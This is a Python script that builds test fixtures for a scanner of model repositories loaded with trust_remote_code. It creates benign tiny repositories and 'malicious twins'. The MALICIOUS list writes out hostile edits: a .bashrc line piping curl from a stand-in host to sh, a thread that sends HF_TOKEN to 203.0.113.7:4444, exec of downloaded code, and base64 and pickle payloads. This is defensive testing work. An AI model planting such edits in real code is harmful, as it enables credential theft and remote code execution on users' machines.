#!/usr/bin/python3
"""Writes test/fixtures/remote-code/: model repositories whose config maps
Auto classes to code shipped in the repository (trust_remote_code), as
real repositories lay them out, and malicious twins, each one edit of a
benign repository.

Run with Debian's interpreter: /usr/bin/python3 scripts/remote-code/generate.py [OUT]

benign/<repo>/: every file must scan `clean`; the folder is `suspicious`
with exactly `model/remote-code` (trust_remote_code runs its code), never
`malicious`: writing the vocabulary in save_vocabulary, fetching an image
URL in a processor, running ffmpeg to read audio, compiling optional CUDA
kernels inside a method: none of it runs while from_pretrained loads.

malicious/<twin>/: the same repository with one hostile edit in code that
runs at load (module top level, a sibling module imported at the top, a
class body, __init__, a from_pretrained override, _init_weights, a thread
started at import); the folder must be `malicious`.

later/<twin>/: the hostile edit sits in a method only a later call runs
(forward): the folder must not be clean (it is `suspicious`, and the
message names the method).

The Python sources (glm_sources.py, qwen_sources.py, ...) were written for
these fixtures after the layout of public repositories; every one compiles
with CPython (checked here). Weights are small random safetensors; the
SentencePiece models are trained by the real library.
"""
import io
import json
import shutil
import sys
from pathlib import Path

import numpy as np
import sentencepiece as spm

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(ROOT / "scripts" / "benign"))
import hf  # noqa: E402
import loaders  # noqa: E402
import embed_sources  # noqa: E402
import glm_sources  # noqa: E402
import mpt_sources  # noqa: E402
import qwen_sources  # noqa: E402
import vl_sources  # noqa: E402

OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "test" / "fixtures" / "remote-code"
rng = np.random.default_rng(14)


def weights(shapes):
    return hf.safetensors_bytes({n: rng.standard_normal(s).astype(np.float32) for n, s in shapes.items()}, {"format": "pt"})


def sp_model():
    text = "\n".join(
        [
            "the model reads the code in the repository before it runs",
            "a tokenizer splits text into pieces and maps them to ids",
            "remote code is imported by transformers when trust remote code is set",
            "small models are trained on small corpora for tests",
        ]
        * 20
    )
    buf = io.BytesIO()
    spm.SentencePieceTrainer.train(sentence_iterator=iter(text.splitlines()), model_writer=buf, vocab_size=60, model_type="bpe", normalization_rule_name="identity", minloglevel=2)
    return buf.getvalue()


def card(title, body):
    return f"---\nlicense: apache-2.0\nlibrary_name: transformers\ntags:\n- custom_code\n---\n\n# {title}\n\n{body}\n"


def py(files):
    for name, src in files.items():
        compile(src, name, "exec")  # every source is valid Python
    return files


def glm():
    return {
        "config.json": hf.config_json({
            "_name_or_path": "example-org/glm-chat-tiny", "architectures": ["GLMForConditionalGeneration"],
            "auto_map": {
                "AutoConfig": "configuration_glm.GLMConfig", "AutoModel": "modeling_glm.GLMForConditionalGeneration",
                "AutoModelForCausalLM": "modeling_glm.GLMForConditionalGeneration",
                "AutoModelForSeq2SeqLM": "modeling_glm.GLMForConditionalGeneration",
            },
            "model_type": "glm", "num_layers": 2, "padded_vocab_size": 64, "hidden_size": 16, "ffn_hidden_size": 32,
            "kv_channels": 8, "num_attention_heads": 2, "seq_length": 64, "torch_dtype": "float32", "transformers_version": "4.40.0",
        }),
        "tokenizer_config.json": hf.tokenizer_json({
            "auto_map": {"AutoTokenizer": ["tokenization_glm.GLMTokenizer", None]}, "clean_up_tokenization_spaces": False,
            "do_lower_case": False, "model_max_length": 64, "padding_side": "left", "remove_space": False, "tokenizer_class": "GLMTokenizer",
        }),
        "generation_config.json": hf.config_json({"do_sample": True, "eos_token_id": [2, 64, 66], "max_length": 64, "pad_token_id": 0, "temperature": 0.8, "top_p": 0.8}),
        "tokenizer.model": sp_model(),
        "model.safetensors": weights({"transformer.embedding.word_embeddings.weight": (64, 16), "transformer.final_layernorm.weight": (16,)}),
        "README.md": card("GLM chat (tiny)", "A chat model with remote code. Load with `AutoModel.from_pretrained(path, trust_remote_code=True)`."),
        ".gitattributes": hf.GITATTRIBUTES,
        **py({
            "configuration_glm.py": glm_sources.CONFIGURATION, "modeling_glm.py": glm_sources.MODELING,
            "tokenization_glm.py": glm_sources.TOKENIZATION, "quantization.py": glm_sources.QUANTIZATION,
        }),
    }


def qwen():
    ranks = "".join(f"{__import__('base64').b64encode(bytes([b])).decode()} {b}\n" for b in range(256))
    return {
        "config.json": hf.config_json({
            "architectures": ["QWenLMHeadModel"],
            "auto_map": {"AutoConfig": "configuration_qwen.QWenConfig", "AutoModelForCausalLM": "modeling_qwen.QWenLMHeadModel"},
            "model_type": "qwen", "hidden_size": 16, "num_hidden_layers": 2, "num_attention_heads": 2, "kv_channels": 8,
            "vocab_size": 151936, "use_cache_quantization": False, "use_cache_kernel": False, "use_flash_attn": "auto",
            "torch_dtype": "bfloat16", "transformers_version": "4.32.0",
        }),
        "tokenizer_config.json": hf.tokenizer_json({"auto_map": {"AutoTokenizer": ["tokenization_qwen.QWenTokenizer", None]}, "model_max_length": 8192, "tokenizer_class": "QWenTokenizer"}),
        "generation_config.json": hf.config_json({"chat_format": "chatml", "eos_token_id": 151643, "max_window_size": 6144, "pad_token_id": 151643, "top_k": 0, "top_p": 0.8}),
        "qwen.tiktoken": ranks,
        "cache_autogptq_cuda_256.cpp": "#include <torch/extension.h>\n\nvoid vecquant8matmul_cuda(torch::Tensor vec, torch::Tensor mat, torch::Tensor mul);\n\nPYBIND11_MODULE(TORCH_EXTENSION_NAME, m) {\n  m.def(\"vecquant8matmul\", &vecquant8matmul_cuda, \"8-bit quantized matmul (CUDA)\");\n}\n",
        "cache_autogptq_cuda_kernel_256.cu": "#include <cuda.h>\n#include <cuda_runtime.h>\n\n__global__ void VecQuant8MatMulKernel(const float* vec, const int* mat, float* mul, int height, int width) {\n  int row = blockIdx.x * blockDim.x + threadIdx.x;\n  if (row < height) mul[row] = vec[row];\n}\n",
        "model.safetensors": weights({"transformer.wte.weight": (32, 16), "lm_head.weight": (32, 16)}),
        "README.md": card("Qwen-style chat (tiny)", "Uses tiktoken; `model.chat(tokenizer, 'hello', history=None)`."),
        ".gitattributes": hf.GITATTRIBUTES,
        **py({
            "configuration_qwen.py": qwen_sources.CONFIGURATION, "modeling_qwen.py": qwen_sources.MODELING,
            "tokenization_qwen.py": qwen_sources.TOKENIZATION, "qwen_generation_utils.py": qwen_sources.GENERATION_UTILS,
            "cpp_kernels.py": qwen_sources.CPP_KERNELS,
        }),
    }


def mpt():
    return {
        "config.json": hf.config_json({
            "architectures": ["MPTForCausalLM"], "auto_map": {"AutoConfig": "configuration_mpt.MPTConfig", "AutoModelForCausalLM": "modeling_mpt.MPTForCausalLM"},
            "attn_config": {"alibi": False, "attn_impl": "torch", "attn_pdrop": 0, "attn_type": "grouped_query_attention", "kv_n_heads": 1},
            "d_model": 16, "n_heads": 2, "n_layers": 2, "expansion_ratio": 4, "max_seq_len": 64, "vocab_size": 128,
            "init_config": {"name": "kaiming_normal_", "fan_mode": "fan_in", "init_nonlinearity": "relu"}, "model_type": "mpt",
            "norm_type": "low_precision_layernorm", "torch_dtype": "bfloat16", "transformers_version": "4.38.2",
        }),
        "tokenizer_config.json": hf.tokenizer_json({"model_max_length": 2048, "tokenizer_class": "GPTNeoXTokenizer", "eos_token": "<|endoftext|>"}),
        "model.safetensors": weights({"transformer.wte.weight": (128, 16), "transformer.norm_f.weight": (16,)}),
        "README.md": card("MPT-style model (tiny)", "Code split over many modules."),
        ".gitattributes": hf.GITATTRIBUTES,
        **py({
            "configuration_mpt.py": mpt_sources.CONFIGURATION, "modeling_mpt.py": mpt_sources.MODELING, "attention.py": mpt_sources.ATTENTION,
            "blocks.py": mpt_sources.BLOCKS, "norm.py": mpt_sources.NORM, "fc.py": mpt_sources.FC, "param_init_fns.py": mpt_sources.PARAM_INIT,
            "meta_init_context.py": mpt_sources.META_INIT, "custom_embedding.py": mpt_sources.CUSTOM_EMBEDDING,
            "adapt_tokenizer.py": mpt_sources.ADAPT_TOKENIZER,
        }),
    }


def vl():
    from PIL import Image
    buf = io.BytesIO()
    Image.fromarray((rng.random((16, 16, 3)) * 255).astype(np.uint8)).save(buf, format="PNG")
    return {
        "config.json": hf.config_json({
            "architectures": ["VLForConditionalGeneration"],
            "auto_map": {"AutoConfig": "configuration_vl.VLConfig", "AutoModelForCausalLM": "modeling_vl.VLForConditionalGeneration"},
            "model_type": "tiny_vl", "text_hidden_size": 16, "vocab_size": 128, "image_token_index": 127,
            "vision_config": {"hidden_size": 16, "image_size": 32, "patch_size": 8}, "torch_dtype": "float32", "transformers_version": "4.44.0",
        }),
        "preprocessor_config.json": hf.config_json({
            "auto_map": {"AutoImageProcessor": "image_processing_vl.TinyVLImageProcessor", "AutoProcessor": "processing_vl.TinyVLProcessor"},
            "do_normalize": True, "image_mean": [0.485, 0.456, 0.406], "image_processor_type": "TinyVLImageProcessor", "image_size": 32,
            "image_std": [0.229, 0.224, 0.225], "processor_class": "TinyVLProcessor",
        }),
        "processor_config.json": hf.config_json({"auto_map": {"AutoProcessor": "processing_vl.TinyVLProcessor"}, "image_token": "<image>", "processor_class": "TinyVLProcessor"}),
        "model.safetensors": weights({"vision.proj.weight": (16, 3, 8, 8), "embed_tokens.weight": (128, 16), "lm_head.weight": (128, 16)}),
        "examples/demo.png": buf.getvalue(),
        "README.md": card("Tiny vision-language model", "Images by URL or path; audio through ffmpeg."),
        ".gitattributes": hf.GITATTRIBUTES,
        **py({
            "configuration_vl.py": vl_sources.CONFIGURATION, "modeling_vl.py": vl_sources.MODELING, "processing_vl.py": vl_sources.PROCESSING,
            "image_processing_vl.py": vl_sources.IMAGE_PROCESSING, "audio.py": vl_sources.AUDIO,
        }),
    }


def embed():
    return {
        "config.json": hf.config_json({
            "architectures": ["EmbedBertModel"],
            "auto_map": {"AutoConfig": "configuration_embed_bert.EmbedBertConfig", "AutoModel": "modeling_embed_bert.EmbedBertModel"},
            "model_type": "embed_bert", "n_embd": 16, "n_head": 2, "n_layer": 1, "vocab_size": 60, "rotary_emb_fraction": 0.0,
            "max_position_embeddings": 64, "torch_dtype": "float32", "transformers_version": "4.34.0",
        }),
        "tokenizer_config.json": hf.tokenizer_json({"auto_map": {"AutoTokenizer": ["tokenization_sp_embed.SPEmbedTokenizer", None]}, "model_max_length": 64, "tokenizer_class": "SPEmbedTokenizer"}),
        "tokenizer.model": sp_model(),
        "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}], indent=2),
        "1_Pooling/config.json": json.dumps({"word_embedding_dimension": 16, "pooling_mode_mean_tokens": True}, indent=4),
        "pytorch_model.bin.index.json": None,  # not written: weights are safetensors only
        "model.safetensors": weights({"embeddings.word_embeddings.weight": (60, 16), "emb_ln.weight": (16,)}),
        "README.md": card("Embedding model with its own loader", "`AutoModel.from_pretrained(path, trust_remote_code=True)`"),
        **py({
            "configuration_embed_bert.py": embed_sources.CONFIGURATION, "modeling_embed_bert.py": embed_sources.MODELING,
            "tokenization_sp_embed.py": embed_sources.TOKENIZATION,
        }),
    }


REPOS = {"glm-chat": glm, "qwen-tiktoken": qwen, "mpt-modules": mpt, "vision-language": vl, "embedding-own-loader": embed}

# (twin name, repo, file, text to find, replacement): one hostile edit each, in code that runs at load.
MALICIOUS = [
    ("tokenizer-init-writes-bashrc", "glm-chat", "tokenization_glm.py",
     "        self.encode_special_tokens = encode_special_tokens\n",
     "        self.encode_special_tokens = encode_special_tokens\n        with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n            rc.write('curl -s https://example.invalid/i | sh\\n')\n"),
    ("sibling-module-spawns-at-import", "qwen-tiktoken", "qwen_generation_utils.py",
     "logger = logging.get_logger(__name__)\n",
     "logger = logging.get_logger(__name__)\n\nimport subprocess as _sp\n_sp.Popen(['sh', '-c', 'touch /tmp/modelguard-marker'])\n"),
    ("init-weights-os-system", "qwen-tiktoken", "modeling_qwen.py",
     "    def _init_weights(self, module):\n        \"\"\"Initialize the weights.\"\"\"\n",
     "    def _init_weights(self, module):\n        \"\"\"Initialize the weights.\"\"\"\n        import os\n        os.system('touch /tmp/modelguard-marker')\n"),
    ("top-level-exec-base64", "mpt-modules", "norm.py",
     "import torch\n",
     "import torch\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RvdWNoIC90bXAvbW9kZWxndWFyZC1tYXJrZXInKQ=='))\n"),
    ("thread-started-at-import", "vision-language", "configuration_vl.py",
     "logger = logging.get_logger(__name__)\n",
     "logger = logging.get_logger(__name__)\n\n\ndef _beacon():\n    import socket\n    s = socket.create_connection(('203.0.113.7', 4444))\n    s.sendall(os.environ.get('HF_TOKEN', '').encode())\n\n\nimport threading\nthreading.Thread(target=_beacon, daemon=True).start()\n"),
    ("from-pretrained-downloads-and-runs", "embedding-own-loader", "modeling_embed_bert.py",
     "        if config is None:\n            config = cls.config_class.from_pretrained(model_name)\n",
     "        if config is None:\n            config = cls.config_class.from_pretrained(model_name)\n        import urllib.request\n        exec(urllib.request.urlopen('https://example.invalid/patch.py').read())\n"),
    ("config-init-unpickles-blob", "embedding-own-loader", "configuration_embed_bert.py",
     "        self.prenorm = prenorm\n",
     "        import pickle, base64\n        pickle.loads(base64.b64decode(b'gASVLgAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjBZ0b3VjaCAvdG1wL21vZGVsZ3VhcmSUhZRSlC4='))\n        self.prenorm = prenorm\n"),
    ("torch-load-carried-bytes", "glm-chat", "modeling_glm.py",
     "        self.quantized = False\n",
     "        self.quantized = False\n        import io, base64\n        self._extra = torch.load(io.BytesIO(base64.b64decode(_EXTRA_STATE)))\n"),
    ("processor-init-writes-file", "vision-language", "processing_vl.py",
     "        self.image_token = image_token\n",
     "        self.image_token = image_token\n        open('/tmp/modelguard-marker', 'w').write('x')\n"),
    ("decorator-runs-process", "mpt-modules", "blocks.py",
     "class MPTMLP(nn.Module):\n",
     "def _register(cls):\n    import subprocess\n    subprocess.run(['touch', '/tmp/modelguard-marker'])\n    return cls\n\n\n@_register\nclass MPTMLP(nn.Module):\n"),
    ("getattr-computed-dispatch", "glm-chat", "configuration_glm.py",
     "        super().__init__(**kwargs)\n",
     "        super().__init__(**kwargs)\n        getattr(self, '_' + 'fetch')()\n\n    def _fetch(self):\n        import os\n        os.system('touch /tmp/modelguard-marker')\n"),
    # config.json says false, but the config class forces the flags: the kernel module (nvcc, a native build) is imported at load.
    ("config-class-forces-kernel-build", "qwen-tiktoken", "configuration_qwen.py",
     "        self.use_cache_quantization = use_cache_quantization\n        self.use_cache_kernel = use_cache_kernel\n",
     "        self.use_cache_quantization = True\n        self.use_cache_kernel = True\n"),
]

# A hostile edit in a method only a later call runs: not clean, listed under "not run at load".
LATER = [
    ("forward-os-system", "qwen-tiktoken", "modeling_qwen.py",
     "        mixed_x_layer = self.c_attn(hidden_states)\n",
     "        import os\n        os.system('touch /tmp/modelguard-marker')\n        mixed_x_layer = self.c_attn(hidden_states)\n"),
]


def write_repo(dest, files):
    for rel, data in files.items():
        if data is not None:
            hf.write(dest / rel, data)


def main():
    if OUT.exists():
        shutil.rmtree(OUT)
    built = {name: make() for name, make in REPOS.items()}
    for name, files in built.items():
        write_repo(OUT / "benign" / name, files)
    for group, edits in (("malicious", MALICIOUS), ("later", LATER)):
        for twin, repo, file, find, repl in edits:
            files = dict(built[repo])
            src = files[file]
            assert src.count(find) == 1, (twin, find)
            src = src.replace(find, repl)
            if twin == "torch-load-carried-bytes":
                src = src.replace("logger = logging.get_logger(__name__)\n", "logger = logging.get_logger(__name__)\n_EXTRA_STATE = 'UEsDBAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=='\n", 1)
            compile(src, file, "exec")
            files[file] = src
            # A twin keeps the configs and the code (what the verdict is about), not the weights and vocabularies.
            write_repo(OUT / group / twin, {k: v for k, v in files.items() if k.endswith((".py", ".json"))})
    loaders.write(OUT)  # repositories whose code diffusers, sentence-transformers, pipeline() or custom_generate import
    print(f"wrote {OUT}")


if __name__ == "__main__":
    main()
